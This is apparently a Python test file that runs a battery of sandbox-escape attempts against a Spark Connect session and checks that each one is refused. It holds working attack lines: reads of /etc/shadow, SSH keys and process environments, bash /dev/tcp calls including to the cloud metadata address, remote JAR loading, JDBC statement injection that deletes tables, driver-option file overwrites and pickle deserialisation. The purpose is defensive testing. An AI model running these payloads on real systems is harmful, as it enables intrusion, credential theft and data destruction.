"""Attacks of an analysis by what Spark itself can do. WORLD is what the test has prepared."""

import os

from pyspark.sql import functions as F

reports = []


def attack(function):
    try:
        got = function()
        reports.append((function.__name__, repr(got)[:300] if got else ""))
    except BaseException:  # refused: that is what is wanted
        reports.append((function.__name__, ""))
    return function


def rows(frame):
    return frame.limit(5).collect()


def jdbc(url=WORLD["url"], **options):
    login = {} if url == WORLD["real"] else {"user": WORLD["user"], "password": WORLD["password"]}
    return spark.read.format("jdbc").options(url=url, driver="org.postgresql.Driver", **{**login, **options}).load()


def sql(text):
    return rows(spark.sql(text))


def elsewhere():
    """A session of its own: what is added to one that cannot be had breaks what comes after."""
    from pyspark.sql import SparkSession

    url = ";".join(p for p in os.environ["SPARK_REMOTE"].split(";") if not p.startswith("session_id="))
    return SparkSession.builder.remote(url).create()


@attack
def read_a_secret_as_text():
    return rows(spark.read.text("file://" + WORLD["secret"]))


@attack
def read_a_secret_by_sql():
    return sql(f"SELECT * FROM text.`file://{WORLD['secret']}`")


@attack
def read_a_secret_as_binary():
    return rows(spark.read.format("binaryFile").load("file://" + WORLD["secret"]))


@attack
def read_passwords():
    return rows(spark.read.text("file:///etc/shadow"))


@attack
def read_the_home():
    return rows(spark.read.text("file://" + os.path.join("/", "root", ".ssh", "*")))


@attack
def read_another_run():
    return rows(spark.read.text("file://" + WORLD["other"]))


@attack
def read_environments():
    return rows(spark.read.text("file:///proc/1/environ"))


@attack
def read_the_tests_environment():
    return rows(spark.read.text(f"file:///proc/{WORLD['pid']}/environ"))


@attack
def write_another_run():
    spark.range(1).write.mode("overwrite").parquet("file://" + WORLD["other"])
    return "written"


@attack
def write_the_runtime():
    spark.range(1).write.mode("overwrite").parquet("file://" + WORLD["runtime"] + "/evil")
    return "written"


@attack
def write_usr():
    spark.range(1).write.mode("overwrite").parquet("file:///usr/evil")
    return "written"


@attack
def environment_of_java():
    return [
        r
        for r in sql(f"SELECT reflect('java.lang.System', 'getenv', '{WORLD['canary']}') AS v")
        if r.v and WORLD["owned"] in r.v
    ]


@attack
def environment_by_java_method():
    return [
        r
        for r in sql(f"SELECT java_method('java.lang.System', 'getenv', '{WORLD['canary']}') AS v")
        if r.v and WORLD["owned"] in r.v
    ]


@attack
def program_of_the_machine():
    frame = spark.sql(f"SELECT TRANSFORM(id) USING 'cat {WORLD['secret']}' AS (line STRING) FROM range(1)")
    return [r for r in frame.collect() if r.line and WORLD["owned"] in r.line]


@attack
def environments_by_a_program():
    frame = spark.sql(
        "SELECT TRANSFORM(id) USING 'cat /proc/1/environ /proc/self/environ' AS (line STRING) FROM range(1)"
    )
    return [r for r in frame.collect() if r.line and WORLD["owned"] in r.line]


@attack
def network_by_a_program():
    command = f'bash -c "echo out > /dev/tcp/127.0.0.1/{WORLD["tcp"]} && echo reached"'
    frame = spark.sql(f"SELECT TRANSFORM(id) USING '{command}' AS (line STRING) FROM range(1)")
    return [r for r in frame.collect() if r.line and "reached" in r.line]


@attack
def metadata_by_a_program():
    command = 'bash -c "timeout 3 cat < /dev/tcp/169.254.169.254/80 && echo reached"'
    frame = spark.sql(f"SELECT TRANSFORM(id) USING '{command}' AS (line STRING) FROM range(1)")
    return [r for r in frame.collect() if r.line and "reached" in r.line]


@attack
def mount_by_a_program():
    frame = spark.sql(
        "SELECT TRANSFORM(id) USING 'bash -c \"unshare -Urm true && echo reached\"' AS (line STRING) FROM range(1)"
    )
    return [r for r in frame.collect() if r.line and "reached" in r.line]


@attack
def write_by_a_program():
    frame = spark.sql(
        f"SELECT TRANSFORM(id) USING 'bash -c \"echo x > {WORLD['other']}/manifest.json && echo reached\"' AS (line STRING) FROM range(1)"
    )
    return [r for r in frame.collect() if r.line and "reached" in r.line]


@attack
def link_by_a_program():
    frame = spark.sql(
        f"SELECT TRANSFORM(id) USING 'bash -c \"ln -s /etc/passwd {WORLD['results']}/link && echo reached\"' AS (line STRING) FROM range(1)"
    )
    return [r for r in frame.collect() if r.line and "reached" in r.line]


@attack
def jar_of_the_network():
    session = elsewhere()
    session.sql(f"ADD JAR 'http://127.0.0.1:{WORLD['tcp']}/evil.jar'").collect()
    return session.range(1).selectExpr("id + 1").collect()


@attack
def jar_of_ivy():
    session = elsewhere()
    session.sql("ADD JAR 'ivy://org.evil:evil:1.0'").collect()
    return session.range(1).selectExpr("id + 1").collect()


@attack
def file_of_the_machine():
    session = elsewhere()
    session.sql(f"ADD FILE '{WORLD['secret']}'").collect()
    return session.range(1).selectExpr("id + 1").collect()


@attack
def archive_of_the_machine():
    session = elsewhere()
    session.addArtifact(WORLD["secret"], archive=True)
    return "added"


@attack
def packages():
    spark.conf.set("spark.jars.packages", "org.evil:evil:1.0")
    return "set"


@attack
def function_of_a_jar():
    session = elsewhere()
    session.sql(
        f"CREATE TEMPORARY FUNCTION evil AS 'org.evil.Evil' USING JAR 'http://127.0.0.1:{WORLD['tcp']}/evil.jar'"
    ).collect()
    return session.sql("SELECT evil(1)").collect()


@attack
def function_in_python():
    return rows(spark.range(1).select(F.udf(lambda x: open("/etc/passwd").read())("id")))


@attack
def map_in_python():
    return rows(spark.range(1).mapInPandas(lambda it: it, "id long"))


@attack
def table_function_in_python():
    @F.udtf(returnType="a: string")
    class Evil:
        def eval(self):
            yield (open("/etc/passwd").read(),)

    return rows(Evil())


@attack
def gateway_to_java():
    return spark._jvm.java.lang.System.getenv()


@attack
def stream_of_the_network():
    query = (
        spark.readStream.format("socket")
        .option("host", "127.0.0.1")
        .option("port", WORLD["tcp"])
        .load()
        .writeStream.format("memory")
        .queryName("evil")
        .start()
    )
    query.processAllAvailable()
    return rows(spark.table("evil"))


@attack
def read_the_network():
    return rows(spark.read.text(f"http://127.0.0.1:{WORLD['tcp']}/"))


@attack
def read_s3():
    return rows(spark.read.text("s3a://evil/x"))


@attack
def the_database_itself():
    return rows(jdbc(WORLD["real"], dbtable="secrets"))


@attack
def another_table():
    return rows(jdbc(dbtable="secrets"))


@attack
def another_table_in_a_query():
    return rows(jdbc(query="SELECT password FROM public.secrets"))


@attack
def a_file_of_the_database():
    return rows(jdbc(query="SELECT pg_read_file('PG_VERSION') AS v"))


@attack
def options_of_the_url():
    url = WORLD["url"] + "&options=-c%20default_transaction_read_only=off"
    jdbc(url, dbtable="(SELECT 1 AS a) t", sessionInitStatement="DELETE FROM orders").collect()
    return "deleted"


@attack
def several_statements():
    text = "(SELECT 1 AS a) x LIMIT 0; COMMIT; BEGIN READ WRITE; DELETE FROM orders; COMMIT; SELECT 1 AS a"
    jdbc(dbtable=text).collect()
    return "deleted"


@attack
def a_statement_before():
    jdbc(dbtable="orders", prepareQuery="WITH w AS (DELETE FROM orders RETURNING 1)").collect()
    return "deleted"


@attack
def write_the_table():
    spark.range(1).selectExpr("id", "id AS amount").write.format("jdbc").mode("append").options(
        url=WORLD["url"] + "&options=-c%20default_transaction_read_only=off",
        dbtable="orders",
        user=WORLD["user"],
        password=WORLD["password"],
        driver="org.postgresql.Driver",
    ).save()
    return "written"


@attack
def replace_the_table():
    spark.range(1).write.format("jdbc").mode("overwrite").options(
        url=WORLD["url"],
        dbtable="orders",
        user=WORLD["user"],
        password=WORLD["password"],
        driver="org.postgresql.Driver",
    ).save()
    return "written"


@attack
def a_factory_of_sockets():
    url = WORLD["url"] + "&socketFactory=java.io.FileOutputStream&socketFactoryArg=" + WORLD["other"] + "/manifest.json"
    return rows(jdbc(url, dbtable="orders"))


@attack
def a_log_of_the_driver():
    url = WORLD["url"] + "&loggerLevel=TRACE&loggerFile=" + WORLD["other"] + "/manifest.json"
    jdbc(url, dbtable="orders").collect()
    return open(WORLD["other"] + "/manifest.json").read()


@attack
def another_way_of_the_broker():
    return rows(jdbc("jdbc:postgresql://127.1.2.3:5432/postgres?connectTimeout=3", dbtable="orders"))


@attack
def without_the_login():
    return rows(jdbc(dbtable="orders", password="wrong"))


@attack
def pickle_in_the_metadata_of_a_file():
    frame = spark.table("pickled")
    seen = (rows(frame), frame.schema.simpleString(), os.path.exists(WORLD["unpickled"]))
    return "" if repr(seen) == "([Row(a='x')], 'struct<a:string>', False)" else seen


@attack
def pickle_as_the_schema_of_a_file():
    frame = spark.read.parquet("file://" + WORLD["evil"])
    seen = frame.schema
    return os.path.exists(WORLD["unpickled"]) and seen


def unpickled():
    """The pickle does what the attacks look for, in the run's own box."""
    __import__("pickle").loads(WORLD["pickle"].encode())
    return os.path.exists(WORLD["unpickled"])


reports.append(("a pickle that is real", repr(unpickled())))
reports.append(("a plain read", repr(rows(jdbc(query="SELECT count(*)::int AS n FROM public.orders")))))
result = spark.createDataFrame(reports, "name string, got string")
